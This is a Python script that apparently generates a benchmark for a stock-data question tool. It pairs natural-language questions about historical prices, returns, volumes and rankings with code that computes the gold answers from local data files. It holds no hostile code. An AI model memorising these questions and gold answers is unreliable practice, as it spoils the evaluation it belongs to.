#!/usr/bin/env python3
"""dev-s (written as blind-16): questions for `stockctl ask` and their gold answers.

Every gold answer is computed here from the raw files (daily `stocks/*.us.txt`, intraday `intraday/*.csv`),
with conventions taken from test/ask-eval/FORMAT.md and the dev-e README's "Choices where FORMAT.md is silent".
Standard library only. Writes questions.jsonl next to this file; exits 1 listing the questions whose
self-checks fail (nothing is written then).
"""
import json
import math
import os
import statistics
import sys
from datetime import date, datetime, timedelta
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = Path(__file__).resolve().parents[3]
DATA = Path(os.environ['ASK_EVAL_DATA']) if os.environ.get('ASK_EVAL_DATA') else REPO.parent / 'shared' / 'data'

DAILY_SYMS = ['AAPL', 'AMD', 'AMZN', 'FB', 'GOOGL', 'IBM', 'INTC', 'JPM', 'KO', 'MSFT', 'NFLX', 'NVDA', 'TSLA']
ETFS = ['INDA', 'FXY', 'DBB']
TODAY = '2025-07-08'          # newest date in the ETF files (FORMAT.md)
MAX_GAP_DAYS = 10             # a return may not span more calendar days than this


class Fail(Exception):
    pass


def need(cond, msg):
    if not cond:
        raise Fail(msg)


# ----------------------------------------------------------------------------------------------- loading
def load_daily():
    out = {}
    for s in DAILY_SYMS:
        rows = []
        with open(DATA / 'stocks' / f'{s.lower()}.us.txt') as f:
            next(f)
            for line in f:
                p = line.strip().split(',')
                if len(p) < 6 or not p[0]:
                    continue
                rows.append({'d': p[0], 'o': float(p[1]), 'h': float(p[2]), 'l': float(p[3]),
                             'c': float(p[4]), 'v': float(p[5])})
        rows.sort(key=lambda r: r['d'])
        out[s] = rows
    return out


def nth_sunday(y, m, n):
    d = date(y, m, 1)
    d += timedelta((6 - d.weekday()) % 7)
    return d + timedelta(7 * (n - 1))


def utc_to_ny(ts):
    """US Eastern time from a naive UTC stamp (rules in force since 2007)."""
    u = datetime.fromisoformat(ts)
    start = datetime.combine(nth_sunday(u.year, 3, 2), datetime.min.time()) + timedelta(hours=7)
    end = datetime.combine(nth_sunday(u.year, 11, 1), datetime.min.time()) + timedelta(hours=6)
    return u + timedelta(hours=-4 if start <= u < end else -5)


def load_minutes():
    out = {}
    files = {p.name.split('_')[0]: p for p in (DATA / 'intraday').glob('*_1min_*.csv')}
    for s in ETFS:
        rows = []
        with open(files[s]) as f:
            next(f)
            for line in f:
                p = line.strip().split(',')
                if len(p) < 6 or not p[0]:
                    continue
                t = utc_to_ny(p[0]).strftime('%Y-%m-%d %H:%M')
                rows.append((t, float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
        rows.sort()
        out[s] = rows
    return out


def etf_daily(mins):
    days = {}
    for t, o, h, l, c, v in mins:
        d = t[:10]
        if d not in days:
            days[d] = {'d': d, 'o': o, 'h': h, 'l': l, 'c': c, 'v': v}
        else:
            b = days[d]
            b['h'] = max(b['h'], h)
            b['l'] = min(b['l'], l)
            b['c'] = c
            b['v'] += v
    return [days[d] for d in sorted(days)]


DAILY = load_daily()
MIN = load_minutes()
for _s in ETFS:
    DAILY[_s] = etf_daily(MIN[_s])
IDX = {s: {b['d']: i for i, b in enumerate(rows)} for s, rows in DAILY.items()}
ALL_SYMS = DAILY_SYMS + ETFS


# ----------------------------------------------------------------------------------------------- helpers
def tol(v):
    return max(0.001 * abs(v), 0.01 if abs(v) >= 1 else 0.0001)


def distinct(a, b):
    return abs(a - b) > max(tol(a), tol(b))


def tol_pct(v):
    """The scorer's tolerance for v answered in percent, expressed back in fraction units."""
    p = 100 * abs(v)
    return max(0.001 * p, 0.01 if p >= 1 else 0.0001) / 100


def same(a, b):
    """Equal within the tightest tolerance the scorer may apply (fraction or percent form)."""
    t = min(tol(a), tol(b))
    if abs(a) < 1 and abs(b) < 1:
        t = min(t, tol_pct(a), tol_pct(b))
    return abs(a - b) <= t


def dd(s):
    return date.fromisoformat(s)


def bar(s, d):
    need(d in IDX[s], f'{d} is not a session of {s}')
    return DAILY[s][IDX[s][d]]


def idx(s, d):
    bar(s, d)
    return IDX[s][d]


def on_or_before(s, d):
    rows = DAILY[s]
    lo, hi = 0, len(rows)
    while lo < hi:
        mid = (lo + hi) // 2
        if rows[mid]['d'] <= d:
            lo = mid + 1
        else:
            hi = mid
    need(lo > 0, f'{s} has no session on or before {d}')
    return lo - 1


def prev_close(s, i):
    need(i > 0, f'{s} {DAILY[s][i]["d"]} has no previous session')
    a, b = DAILY[s][i - 1]['d'], DAILY[s][i]['d']
    need((dd(b) - dd(a)).days <= MAX_GAP_DAYS, f'{s} return {a}->{b} spans more than {MAX_GAP_DAYS} days')
    return DAILY[s][i - 1]['c']


def ret_i(s, i):
    return DAILY[s][i]['c'] / prev_close(s, i) - 1


def gap_i(s, i):
    return DAILY[s][i]['o'] / prev_close(s, i) - 1


def win(s, a, b):
    ii = [i for i, r in enumerate(DAILY[s]) if a <= r['d'] <= b]
    need(ii, f'{s} has no session in {a}..{b}')
    return ii


def rets(s, a, b, first=True):
    ii = win(s, a, b)
    if not first:
        ii = ii[1:]
    return [(DAILY[s][i]['d'], ret_i(s, i)) for i in ii]


def field(s, i, f):
    r = DAILY[s][i]
    if f == 'range':
        return r['h'] - r['l']
    if f == 'ret':
        return ret_i(s, i)
    if f == 'gap':
        return gap_i(s, i)
    return r[f]


def ma_i(s, i, n):
    if i < n - 1:
        return None
    return sum(DAILY[s][j]['c'] for j in range(i - n + 1, i + 1)) / n


def change(s, d1, d2):
    i1, i2 = on_or_before(s, d1), on_or_before(s, d2)
    need(i1 < i2, f'{s} change {d1}->{d2} is empty')
    return DAILY[s][i2]['c'] / DAILY[s][i1]['c'] - 1


def nchange(s, d1, d2):
    """Change between two closes the question names: both must be sessions of s."""
    bar(s, d1)
    bar(s, d2)
    return change(s, d1, d2)


def ranked(items, n, desc=True):
    """items [(sym, value)]: top n, asserting no tie inside the top n or at its edge."""
    items = sorted(items, key=lambda x: x[1], reverse=desc)
    need(len(items) >= n, f'only {len(items)} items for top {n}')
    for k in range(min(n, len(items) - 1)):
        need(distinct(items[k][1], items[k + 1][1]), f'tie between {items[k]} and {items[k + 1]}')
    return items[:n]


def pearson(x, y):
    mx, my = sum(x) / len(x), sum(y) / len(y)
    sxy = sum((a - mx) * (b - my) for a, b in zip(x, y))
    sxx = sum((a - mx) ** 2 for a in x)
    syy = sum((b - my) ** 2 for b in y)
    return sxy / math.sqrt(sxx * syy)


def off_threshold(values, thr):
    for v in values:
        need(abs(v - thr) > 1e-6 * max(1.0, abs(thr)), f'value {v} sits on threshold {thr}')


def G(rows, match='first', exact=False):
    return {'rows': rows, 'match': match, 'exact_rows': exact}


def last_of_month(y, m):
    nxt = date(y + (m == 12), m % 12 + 1, 1)
    return str(nxt - timedelta(1))


def quarter(y, q):
    return f'{y}-{3 * q - 2:02d}-01', last_of_month(y, 3 * q)


def week_of(d):
    x = dd(d)
    mon = x - timedelta(x.weekday())
    return str(mon), str(mon + timedelta(4))


# ----------------------------------------------------------------------------------------------- gold makers
def g_latest(s, n, fields):
    rows = DAILY[s][-n:]
    return G([[r['d']] + [r[f] for f in fields] for r in rows], 'set', True)


def g_day(s, d, f):
    i = idx(s, d)
    return G([[d, field(s, i, f)]])


def g_rows(s, a, b, fields, named=True):
    ii = win(s, a, b)
    if named:
        bar(s, a)
        bar(s, b)
    return G([[DAILY[s][i]['d']] + [field(s, i, f) for f in fields] for i in ii], 'set', True)


def agg(s, a, b, f, how):
    vals = [field(s, i, f) for i in win(s, a, b)]
    return {'avg': lambda v: sum(v) / len(v), 'sum': sum, 'max': max, 'min': min}[how](vals)


def g_agg(s, a, b, f, how):
    return G([[agg(s, a, b, f, how)]])


def g_extreme(s, a, b, f, desc=True):
    items = [(DAILY[s][i]['d'], field(s, i, f)) for i in win(s, a, b)]
    top = ranked(items, 1, desc)[0]
    return G([[top[0], top[1]]])


def hi52(s, d, days):
    lo = str(dd(d) - timedelta(days - 1))
    ii = win(s, lo, d)
    return max(DAILY[s][i]['h'] for i in ii), min(DAILY[s][i]['l'] for i in ii)


def g_52(s, d, what):
    bar(s, d)
    h1, l1 = hi52(s, d, 365)
    h2, l2 = hi52(s, d, 366)
    need(same(h1, h2) and same(l1, l2), f'52-week window edge matters for {s} {d}')
    return G([{'high': [h1], 'low': [l1], 'range': [l1, h1]}[what]])


def g_change(s, d1, d2, named=True):
    if named:
        bar(s, d1)
        bar(s, d2)
    return G([[change(s, d1, d2)]])


def g_move(s, a, b, mode):
    """mode: up, down, abs (by return) or gapup."""
    out = []
    for first in (True, False):
        ii = win(s, a, b)[(0 if first else 1):]
        if mode == 'gapup':
            items = [(DAILY[s][i]['d'], gap_i(s, i)) for i in ii]
            top = ranked(items, 1, True)[0]
        else:
            items = [(DAILY[s][i]['d'], ret_i(s, i)) for i in ii]
            if mode == 'abs':
                t = ranked([(d, abs(r)) for d, r in items], 1, True)[0]
                top = (t[0], dict(items)[t[0]])
            else:
                top = ranked(items, 1, mode == 'up')[0]
        out.append(top)
    need(out[0][0] == out[1][0], f'biggest move for {s} depends on the first session of the window')
    return G([[out[0][0], out[0][1]]])


def universe_on(d):
    return [s for s in ALL_SYMS if d in IDX[s]]


def universe_between(d1, d2):
    return [s for s in ALL_SYMS if d1 in IDX[s] and d2 in IDX[s]]


def g_xrank(d, f, n, desc=True, exact=True, size=None):
    syms = universe_on(d)
    need(syms, f'no symbol trades on {d}')
    need(size is None or len(syms) == size, f'universe on {d} {syms} is not of size {size}')
    items = [(s, field(s, IDX[s][d], f)) for s in syms]
    top = ranked(items, n, desc)
    if n == 1 and not exact:
        return G([[top[0][0], top[0][1]]], 'first')
    return G([[a, b] for a, b in top], 'ordered', True)


def g_window_rank(d1, d2, n, desc=True, single=False, size=None):
    syms = universe_between(d1, d2)
    need(len(syms) >= 2, 'universe too small')
    need(size is None or len(syms) == size, f'universe {syms} is not of size {size}')
    items = [(s, nchange(s, d1, d2)) for s in syms]
    top = ranked(items, n, desc)
    if single:
        return G([[top[0][0], top[0][1]]], 'first')
    return G([[a, b] for a, b in top], 'ordered', True)


def g_named(pairs, style):
    """pairs [(sym, value)]; style 'which-high'/'which-low' (ordered, winner first) or 'set'."""
    for i in range(len(pairs)):
        for j in range(i + 1, len(pairs)):
            need(distinct(pairs[i][1], pairs[j][1]), f'named comparison tie {pairs}')
    if style == 'set':
        return G([[a, b] for a, b in pairs], 'set', True)
    p = sorted(pairs, key=lambda x: x[1], reverse=(style == 'which-high'))
    return G([[a, b] for a, b in p], 'ordered', True)


def vol(s, a, b, first=True):
    return statistics.stdev([r for _, r in rets(s, a, b, first)])


def vol_checked(s, a, b):
    v1, v2 = vol(s, a, b, True), vol(s, a, b, False)
    need(same(v1, v2), f'volatility of {s} {a}..{b} depends on the first return ({v1} vs {v2})')
    return v1


def corr(s1, s2, a, b, first=True):
    r1, r2 = dict(rets(s1, a, b, first)), dict(rets(s2, a, b, first))
    common = sorted(set(r1) & set(r2))
    need(len(common) >= 20, 'too few common dates')
    return pearson([r1[d] for d in common], [r2[d] for d in common])


def g_corr(s1, s2, a, b):
    c1 = corr(s1, s2, a, b, True)
    c2 = corr(s1, s2, a, b, False)
    need(same(c1, c2), f'correlation {s1}/{s2} depends on the first return ({c1} vs {c2})')
    return G([[c1]])


def longest_streak(s, a, b, up, first):
    best, cur, runs = None, [], []
    for d, r in rets(s, a, b, first):
        if (r > 0) if up else (r < 0):
            cur.append(d)
        else:
            if cur:
                runs.append(cur)
            cur = []
    if cur:
        runs.append(cur)
    need(runs, 'no streak')
    runs.sort(key=len, reverse=True)
    need(len(runs) == 1 or len(runs[1]) < len(runs[0]), f'{s} longest streak is tied')
    return (len(runs[0]), runs[0][0], runs[0][-1])


def g_streak(s, a, b, up):
    x = longest_streak(s, a, b, up, True)
    y = longest_streak(s, a, b, up, False)
    need(x == y, f'streak of {s} depends on the first session ({x} vs {y})')
    return G([list(x)])


def g_count(s, a, b, f, op, thr):
    ii = win(s, a, b)
    readings = [ii] + ([ii[1:]] if f in ('ret', 'absret') else [])
    counts = []
    for jj in readings:
        vals = [abs(ret_i(s, i)) if f == 'absret' else field(s, i, f) for i in jj]
        off_threshold(vals, thr)
        counts.append(sum(1 for v in vals if (v > thr if op == '>' else v < thr)))
    need(len(set(counts)) == 1, f'count for {s} depends on the first session {counts}')
    return G([[counts[0]]])


def g_xcount(syms, valf, op, thr, size=None):
    need(size is None or len(syms) == size, f'universe {syms} is not of size {size}')
    vals = [valf(s) for s in syms]
    need(vals, 'empty universe')
    off_threshold(vals, thr)
    return G([[sum(1 for v in vals if (v > thr if op == '>' else v < thr))]])


def ma_at(s, d, n):
    i = idx(s, d)
    v = ma_i(s, i, n)
    need(v is not None, f'{s} has fewer than {n} sessions at {d}')
    return G([[d, v]])


def crosses(s, fast, slow, up, a, b):
    def val(i, spec):
        return DAILY[s][i]['c'] if spec == 'close' else ma_i(s, i, spec)
    out = []
    for i in win(s, a, b):
        if i == 0:
            continue
        f0, s0, f1, s1 = val(i - 1, fast), val(i - 1, slow), val(i, fast), val(i, slow)
        if None in (f0, s0, f1, s1):
            continue
        for f, sl in ((f0, s0), (f1, s1)):
            need(abs(f - sl) > 1e-5 * abs(sl), f'{s} fast/slow tie near {DAILY[s][i]["d"]}')
        hit = (f1 > s1 and f0 < s0) if up else (f1 < s1 and f0 > s0)
        if hit:
            for f, sl in ((f0, s0), (f1, s1)):
                need(abs(f - sl) > 1e-4 * abs(sl), f'{s} crossing on {DAILY[s][i]["d"]} is too close to a tie')
            out.append(DAILY[s][i]['d'])
    return out


def g_cross(s, fast, slow, up, a, b, which, unique=False):
    """which: 'first' in [a, b] or 'last' strictly before b (b itself is asserted not a crossing);
    unique: the question says neither first nor last, so [a, b] must hold exactly one crossing."""
    cs = crosses(s, fast, slow, up, a, b)
    need(not unique or len(cs) == 1, f'{s} has {len(cs)} crossings in {a}..{b}, want exactly one')
    if which == 'last':
        need(b not in cs, f'{b} is itself a crossing')
        cs = [c for c in cs if c < b]
    need(cs, f'no crossing for {s} in {a}..{b}')
    return G([[cs[0] if which == 'first' else cs[-1]]])


def minutes(s, d1, d2, t1='00:00', t2='23:59'):
    return [m for m in MIN[s] if d1 <= m[0][:10] <= d2 and t1 <= m[0][11:] <= t2]


def vwap(ms):
    need(ms, 'no minutes')
    tv = sum(m[5] for m in ms)
    need(tv > 0, 'zero volume')
    return sum(m[4] * m[5] for m in ms) / tv


def g_vwap_day(s, d1, d2=None):
    d2 = d2 or d1
    if d1 == d2:
        bar(s, d1)
    a = vwap(minutes(s, d1, d2))
    b = vwap(minutes(s, d1, d2, '09:30', '15:59'))
    need(same(a, b), f'{s} VWAP whole date {a} vs regular session {b}')
    return G([[a]])


def g_vwap_window(s, d, t1, t2):
    bar(s, d)
    a = vwap(minutes(s, d, d, t1, t2))
    h, m = map(int, t2.split(':'))
    t2x = f'{(h * 60 + m - 1) // 60:02d}:{(h * 60 + m - 1) % 60:02d}'
    b = vwap(minutes(s, d, d, t1, t2x))
    need(same(a, b), f'{s} window VWAP depends on the end minute ({a} vs {b})')
    return G([[a]])


def g_minute_rows(s, d, t1, t2, fields):
    bar(s, d)
    ms = minutes(s, d, d, t1, t2)
    need(ms, 'no minute bars')
    pos = {'open': 1, 'high': 2, 'low': 3, 'close': 4, 'volume': 5}
    return G([[m[0]] + [m[pos[f]] for f in fields] for m in ms], 'set', True)


def candle(s, a, b):
    ii = win(s, a, b)
    rs = [DAILY[s][i] for i in ii]
    return [rs[0]['o'], max(r['h'] for r in rs), min(r['l'] for r in rs), rs[-1]['c'], sum(r['v'] for r in rs)]


def g_candle(s, a, b):
    return G([candle(s, a, b)])


def g_dist(s, d):
    i = idx(s, d)
    peak = max(DAILY[s][j]['c'] for j in range(0, i + 1))
    v = DAILY[s][i]['c'] / peak - 1
    need(v < 0, f'{s} is at its high on {d}')
    return G([[d, v]])


def months(y, m1, m2):
    return [(f'{y}-{m:02d}-01', last_of_month(y, m)) for m in range(m1, m2 + 1)]


def g_grouped(s, periods, f, how):
    return G([[agg(s, a, b, f, how) if how != 'last' else DAILY[s][win(s, a, b)[-1]]['c']] for a, b in periods],
             'ordered', True)


def g_pop(s, later, earlier, f):
    x = agg(s, later[0], later[1], f, 'avg')
    y = agg(s, earlier[0], earlier[1], f, 'avg')
    return G([[x, y, x / y - 1]])


def first_last(s):
    return DAILY[s][0]['d'], DAILY[s][-1]['d']


# ----------------------------------------------------------------------------------------------- questions
QS = []


def Q(kind, text, fn):
    QS.append({'kind': kind, 'question': text, 'answerable': True, 'fn': fn})


def R(kind, text):
    QS.append({'kind': kind, 'question': text, 'answerable': False, 'refusal': kind})


# latest-rows (ETFs; INDA's latest is its own last session)
K = 'latest-rows'
Q(K, 'last 5 closes for DBB', lambda: g_latest('DBB', 5, ['c']))
Q(K, "show me FXY's three most recent daily bars (open, high, low, close, volume)",
  lambda: g_latest('FXY', 3, ['o', 'h', 'l', 'c', 'v']))
Q(K, "What were INDA's closing prices over its last 4 sessions?", lambda: g_latest('INDA', 4, ['c']))
Q(K, 'dbb volume last 3 sessions', lambda: g_latest('DBB', 3, ['v']))
Q(K, 'latest close fxy', lambda: g_latest('FXY', 1, ['c']))
Q(K, 'can you pull up the 6 most recent trading days for DBB, just the date and the closing price?',
  lambda: g_latest('DBB', 6, ['c']))
Q(K, 'inda most recent high and low', lambda: g_latest('INDA', 1, ['h', 'l']))
Q(K, 'Give me the open and close for FXY for the last two sessions please', lambda: g_latest('FXY', 2, ['o', 'c']))

# day-value
K = 'day-value'
Q(K, 'tsla close 3/4/2015', lambda: g_day('TSLA', '2015-03-04', 'c'))
Q(K, "What was Apple's opening price on June 24, 2016?", lambda: g_day('AAPL', '2016-06-24', 'o'))
Q(K, 'msft volume on 2014-10-20', lambda: g_day('MSFT', '2014-10-20', 'v'))
Q(K, 'how high did nvidia trade on 10 May 2017', lambda: g_day('NVDA', '2017-05-10', 'h'))
Q(K, "whats amazn's low on january 7th 2015", lambda: g_day('AMZN', '2015-01-07', 'l'))
Q(K, 'Coca-Cola closing price, Sept 16 2013?', lambda: g_day('KO', '2013-09-16', 'c'))
Q(K, 'DBB close yesterday', lambda: g_day('DBB', '2025-07-07', 'c'))
Q(K, 'how many shares of FXY traded on 08/05/2024?', lambda: g_day('FXY', '2024-08-05', 'v'))

# date-range-rows
K = 'date-range-rows'
Q(K, 'AAPL closes 2016-06-20 through 2016-06-24', lambda: g_rows('AAPL', '2016-06-20', '2016-06-24', ['c']))
Q(K, 'netflix daily open and close for the week of 2015-07-15',
  lambda: g_rows('NFLX', *week_of('2015-07-15'), ['o', 'c'], named=False))
Q(K, 'Show IBM highs and lows from Jan 4 to Jan 8, 2016', lambda: g_rows('IBM', '2016-01-04', '2016-01-08', ['h', 'l']))
Q(K, 'intc volume 03/01/2017 - 03/07/2017', lambda: g_rows('INTC', '2017-03-01', '2017-03-07', ['v']))
Q(K, 'jpm ohlc 2012-05-14 to 2012-05-18', lambda: g_rows('JPM', '2012-05-14', '2012-05-18', ['o', 'h', 'l', 'c']))
Q(K, 'facebok closing prices from 18 May 2012 thru 24 May 2012',
  lambda: g_rows('FB', '2012-05-18', '2012-05-24', ['c']))
Q(K, 'list DBB daily closes from 2025-06-30 to 2025-07-03', lambda: g_rows('DBB', '2025-06-30', '2025-07-03', ['c']))
Q(K, "fxy's daily closes so far this month", lambda: g_rows('FXY', '2025-07-01', TODAY, ['c']))

# window-aggregate
K = 'window-aggregate'
Q(K, 'avg close of GOOGL in march 2016', lambda: g_agg('GOOGL', '2016-03-01', '2016-03-31', 'c', 'avg'))
Q(K, 'Total volume traded in AMD during Q1 2017?', lambda: g_agg('AMD', *quarter(2017, 1), 'v', 'sum'))
Q(K, 'highest price coca cola traded at in 2014', lambda: g_agg('KO', '2014-01-01', '2014-12-31', 'h', 'max'))
Q(K, 'lowest low msft H1 2015', lambda: g_agg('MSFT', '2015-01-01', '2015-06-30', 'l', 'min'))
Q(K, 'what was the average daily volume for Tesla in Feb 2016?',
  lambda: g_agg('TSLA', '2016-02-01', '2016-02-29', 'v', 'avg'))
Q(K, 'avergae daily range (high minus low) of IBM in october 2016',
  lambda: g_agg('IBM', '2016-10-01', '2016-10-31', 'range', 'avg'))
Q(K, 'average close of FXY last month', lambda: g_agg('FXY', '2025-06-01', '2025-06-30', 'c', 'avg'))
Q(K, 'INDA total volume, March 2025', lambda: g_agg('INDA', '2025-03-01', '2025-03-31', 'v', 'sum'))

# extreme-day
K = 'extreme-day'
Q(K, 'When did AMZN have its highest close in 2015?', lambda: g_extreme('AMZN', '2015-01-01', '2015-12-31', 'c'))
Q(K, 'which day in 2016 had the heaviest volume for apple?', lambda: g_extreme('AAPL', '2016-01-01', '2016-12-31', 'v'))
Q(K, 'netflx lowest close of 2014 - what day was that', lambda: g_extreme('NFLX', '2014-01-01', '2014-12-31', 'c', False))
Q(K, "On what day in 2017 (through Nov 10) was Tesla's high-low range the widest?",
  lambda: g_extreme('TSLA', '2017-01-01', '2017-11-10', 'range'))
Q(K, 'day of the lowest low for jpm in 2016', lambda: g_extreme('JPM', '2016-01-01', '2016-12-31', 'l', False))
Q(K, 'msft peak close in H1 2017, which date?', lambda: g_extreme('MSFT', '2017-01-01', '2017-06-30', 'c'))
Q(K, 'which day this year did DBB post its lowest close?', lambda: g_extreme('DBB', '2025-01-01', TODAY, 'c', False))
Q(K, 'fxy lowest close in 2024 and the date', lambda: g_extreme('FXY', '2024-01-01', '2024-12-31', 'c', False))

# 52-week
K = '52-week'
Q(K, '52 week high for AAPL as of 2016-12-30', lambda: g_52('AAPL', '2016-12-30', 'high'))
Q(K, '52w low msft on 8/25/2015', lambda: g_52('MSFT', '2015-08-25', 'low'))
Q(K, "What's the 52-week range for Nvidia as of June 30, 2017?", lambda: g_52('NVDA', '2017-06-30', 'range'))
Q(K, 'INTC 52-week high as of 14 Nov 2014', lambda: g_52('INTC', '2014-11-14', 'high'))
Q(K, 'tesla 52 week low as of march 1 2016', lambda: g_52('TSLA', '2016-03-01', 'low'))
Q(K, 'dbb 52-week high', lambda: g_52('DBB', TODAY, 'high'))
Q(K, "what is FXY's 52 week range right now?", lambda: g_52('FXY', TODAY, 'range'))
Q(K, '52-week low for DBB as of 2024-12-31', lambda: g_52('DBB', '2024-12-31', 'low'))

# change-between
K = 'change-between'
Q(K, 'how much did NFLX change from the 2016-01-04 close to the 2016-06-30 close?',
  lambda: g_change('NFLX', '2016-01-04', '2016-06-30'))
Q(K, '% change in KO from 2013-03-01 to 2013-09-03', lambda: g_change('KO', '2013-03-01', '2013-09-03'))
Q(K, "Tesla: close on Feb 3 2014 vs close on Feb 28 2014, what's the percent move?",
  lambda: g_change('TSLA', '2014-02-03', '2014-02-28'))
Q(K, 'IBM return between Jan 1 2016 and Dec 31 2016', lambda: g_change('IBM', '2016-01-01', '2016-12-31', named=False))
Q(K, 'how much did amd gain between the 2016-02-08 and 2016-08-08 closes',
  lambda: g_change('AMD', '2016-02-08', '2016-08-08'))
Q(K, 'googl change 9/1/2015 to 11/2/2015', lambda: g_change('GOOGL', '2015-09-01', '2015-11-02'))
Q(K, 'How much has DBB moved from the 2024 year-end close to today?', lambda: g_change('DBB', '2024-12-31', TODAY))
Q(K, 'fxy % change between the 2024-07-10 and 2024-08-05 closes', lambda: g_change('FXY', '2024-07-10', '2024-08-05'))

# daily-return-or-gap
K = 'daily-return-or-gap'
Q(K, 'AAPL daily return on 2016-04-27', lambda: g_day('AAPL', '2016-04-27', 'ret'))
Q(K, 'what was the opening gap for Netflix on July 19, 2016?', lambda: g_day('NFLX', '2016-07-19', 'gap'))
Q(K, 'tsla % change on 5/9/2013', lambda: g_day('TSLA', '2013-05-09', 'ret'))
Q(K, 'How much did Facebook gap up on 2013-07-25?', lambda: g_day('FB', '2013-07-25', 'gap'))
Q(K, 'jpm return 11/9/2016', lambda: g_day('JPM', '2016-11-09', 'ret'))
Q(K, 'nvda gap on teh open 2017-05-10', lambda: g_day('NVDA', '2017-05-10', 'gap'))
Q(K, "FXY's return today", lambda: g_day('FXY', TODAY, 'ret'))
Q(K, 'fxy gap 2024-08-05', lambda: g_day('FXY', '2024-08-05', 'gap'))
Q(K, 'What was the daily return of INDA on 2025-06-23?', lambda: g_day('INDA', '2025-06-23', 'ret'))

# biggest-move-day
K = 'biggest-move-day'
Q(K, 'biggest one-day drop for NFLX in 2016', lambda: g_move('NFLX', '2016-01-01', '2016-12-31', 'down'))
Q(K, "What was AMD's largest single-day gain in 2016, and when?", lambda: g_move('AMD', '2016-01-01', '2016-12-31', 'up'))
Q(K, 'biggest daily move either direction for TSLA in 2015', lambda: g_move('TSLA', '2015-01-01', '2015-12-31', 'abs'))
Q(K, 'largest gap up for aapl in 2014', lambda: g_move('AAPL', '2014-01-01', '2014-12-31', 'gapup'))
Q(K, 'worst day for Microsft in 2015?', lambda: g_move('MSFT', '2015-01-01', '2015-12-31', 'down'))
Q(K, "fb's best day in 2014", lambda: g_move('FB', '2014-01-01', '2014-12-31', 'up'))
Q(K, "DBB's worst session last quarter", lambda: g_move('DBB', '2025-04-01', '2025-06-30', 'down'))
Q(K, 'biggest up day for FXY in 2024 and by how much', lambda: g_move('FXY', '2024-01-01', '2024-12-31', 'up'))

# cross-sectional-ranking
K = 'cross-sectional-ranking'
Q(K, 'which 3 stocks had the highest volume on 2016-06-24?', lambda: g_xrank('2016-06-24', 'v', 3))
Q(K, 'which stock had the widest high-low range on June 9, 2017?', lambda: g_xrank('2017-06-09', 'range', 1, exact=False))
Q(K, 'rank all the stocks by closing price on 2014-01-02', lambda: g_xrank('2014-01-02', 'c', len(universe_on('2014-01-02'))))
Q(K, 'top 3 gap-ups on 11/7/2016', lambda: g_xrank('2016-11-07', 'gap', 3))
Q(K, 'Which stock traded the most shares on April 1st, 2013?', lambda: g_xrank('2013-04-01', 'v', 1, exact=False))
Q(K, 'top 2 by volume on 2011-08-08', lambda: g_xrank('2011-08-08', 'v', 2))
Q(K, 'the 3 lowest priced stocks by close on 2017-11-10', lambda: g_xrank('2017-11-10', 'c', 3, desc=False))
Q(K, 'rank the 3 ETFs by volume on 6/23/2025', lambda: g_xrank('2025-06-23', 'v', 3, size=3))
Q(K, 'which fund had the widest intraday range on 2025-04-07?', lambda: g_xrank('2025-04-07', 'range', 1, exact=False, size=3))

# gainers-losers
K = 'gainers-losers'
Q(K, 'top 3 gainers on 2015-08-26', lambda: g_xrank('2015-08-26', 'ret', 3))
Q(K, 'biggest losers 8/24/2015, top 3', lambda: g_xrank('2015-08-24', 'ret', 3, desc=False))
Q(K, 'best performing stock from the 2015-12-31 close to the 2016-12-30 close?',
  lambda: g_window_rank('2015-12-31', '2016-12-30', 1, single=True))
Q(K, 'worst 2 stocks from the 12/31/2014 close to the 12/31/2015 close', lambda: g_window_rank('2014-12-31', '2015-12-31', 2, desc=False))
Q(K, 'top 5 performers in H1 2017, measured from the 2016-12-30 close to the 2017-06-30 close',
  lambda: g_window_rank('2016-12-30', '2017-06-30', 5))
Q(K, 'which stock fell the most on June 24 2016', lambda: g_xrank('2016-06-24', 'ret', 1, desc=False, exact=False))
Q(K, 'rank the three ETFs by return from the 2025-03-31 close to the 2025-06-24 close',
  lambda: g_window_rank('2025-03-31', '2025-06-24', 3, size=3))
Q(K, 'which etf gained the most on 2025-04-09?', lambda: g_xrank('2025-04-09', 'ret', 1, exact=False, size=3))

# named-comparison
K = 'named-comparison'
Q(K, 'AAPL vs MSFT, 2015-12-31 close to 2016-12-30 close',
  lambda: g_named([(s, nchange(s, '2015-12-31', '2016-12-30')) for s in ('AAPL', 'MSFT')], 'set'))
Q(K, 'did google or amazon do better from the 12/30/2016 close to the 6/30/2017 close?',
  lambda: g_named([(s, nchange(s, '2016-12-30', '2017-06-30')) for s in ('GOOGL', 'AMZN')], 'which-high'))
Q(K, 'Which was more volatile in 2016, Nvidea or AMD?',
  lambda: g_named([(s, vol_checked(s, '2016-01-01', '2016-12-31')) for s in ('NVDA', 'AMD')], 'which-high'))
Q(K, 'who had more sessions up over 3% in 2016 - tesla or netflix?',
  lambda: g_named([(s, g_count(s, '2016-01-01', '2016-12-31', 'ret', '>', 0.03)['rows'][0][0]) for s in ('TSLA', 'NFLX')],
                  'which-high'))
Q(K, 'who had the bigger drop on 2016-06-24, JPM or IBM?',
  lambda: g_named([(s, field(s, idx(s, '2016-06-24'), 'ret')) for s in ('JPM', 'IBM')], 'which-low'))
Q(K, 'dbb vs fxy ytd, measured from the 2024 year-end close',
  lambda: g_named([(s, nchange(s, '2024-12-31', TODAY)) for s in ('DBB', 'FXY')], 'set'))
Q(K, 'which held up better in june, FXY or DBB? from the May 30 close to the June 27 close',
  lambda: g_named([(s, nchange(s, '2025-05-30', '2025-06-27')) for s in ('FXY', 'DBB')], 'which-high'))
Q(K, 'compare average daily volume of INDA and FXY in May 2025',
  lambda: g_named([(s, agg(s, '2025-05-01', '2025-05-31', 'v', 'avg')) for s in ('INDA', 'FXY')], 'set'))

# grouped-by-period
K = 'grouped-by-period'
Q(K, 'monthly closing prices for KO in H1 2014', lambda: g_grouped('KO', months(2014, 1, 6), 'c', 'last'))
Q(K, 'AAPL yearly high, 2012 to 2016', lambda: g_grouped('AAPL', [(f'{y}-01-01', f'{y}-12-31') for y in range(2012, 2017)], 'h', 'max'))
Q(K, 'average volume by quarter for msft in 2015', lambda: g_grouped('MSFT', [quarter(2015, q) for q in (1, 2, 3, 4)], 'v', 'avg'))
Q(K, 'NFLX month-end closes for Q3 2016', lambda: g_grouped('NFLX', months(2016, 7, 9), 'c', 'last'))
Q(K, 'IBM total volume per month in Q1 2013', lambda: g_grouped('IBM', months(2013, 1, 3), 'v', 'sum'))
Q(K, 'DBB month-end close for each month of H1 2025', lambda: g_grouped('DBB', months(2025, 1, 6), 'c', 'last'))
